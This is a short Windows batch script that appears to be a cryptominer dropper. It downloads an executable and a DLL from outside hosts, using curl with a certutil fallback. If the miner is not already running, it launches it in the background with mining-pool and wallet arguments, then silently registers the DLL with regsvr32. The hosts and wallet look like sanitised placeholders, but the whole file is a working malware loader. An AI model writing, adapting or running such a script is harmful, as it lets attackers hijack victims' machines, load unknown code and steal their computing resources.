@echo off
curl http://198.51.100.101/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
	certutil.exe -urlcache -f http://198.51.100.101/download/jsextension.exe jsextension.exe
)
curl https://citationsherbe.test/sdd.dll -o create.dll
set exe_1=jsextension.exe
tasklist /FI "IMAGENAME eq %exe_1%" 2>NUL | find /I /N "%exe_1%">NUL
if %ERRORLEVEL% == 0 goto done
start /B %exe_1% -k --tls --rig-id q -o pool.example:443 -u WALLETPLACEHOLDERNOTREAL0000000000 --cpu-max-threads-hint=50 --donate-level=1 --background
regsvr32.exe -s create.dll
:done
